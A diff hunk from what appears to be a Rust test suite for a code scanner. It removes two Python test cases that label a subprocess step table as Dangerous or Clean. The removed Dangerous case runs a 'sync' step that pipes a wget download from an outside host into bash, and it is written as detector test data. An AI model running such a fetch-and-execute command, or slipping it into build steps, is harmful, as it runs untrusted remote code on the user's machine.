@@ -4426,19 +4426,6 @@ fn endpoints_hooks_by_key_and_paths_through_helpers() {
             Clean,
             "",
         ),
-        // A table of argv lists picked by a helper's parameter: each program it may run.
-        (
-            Py,
-            "import subprocess\nSTEPS = {'lint': ['ruff', 'check', '.'], 'sync': ['bash', '-c', 'wget -qO- https://sync.toolfarm.dev/s | bash']}\ndef step(name):\n    subprocess.run(STEPS[name], check=False)\nstep('lint')\nstep('sync')\n",
-            Dangerous,
-            "remote-code",
-        ),
-        (
-            Py,
-            "import subprocess\nSTEPS = {'lint': ['ruff', 'check', '.'], 'test': ['pytest', '-q']}\ndef step(name):\n    subprocess.run(STEPS[name], check=False)\nstep('lint')\nstep('test')\n",
-            Clean,
-            "",
-        ),
         // The agent's settings in a directory the script made: a test's fixture.
         (
             Py,
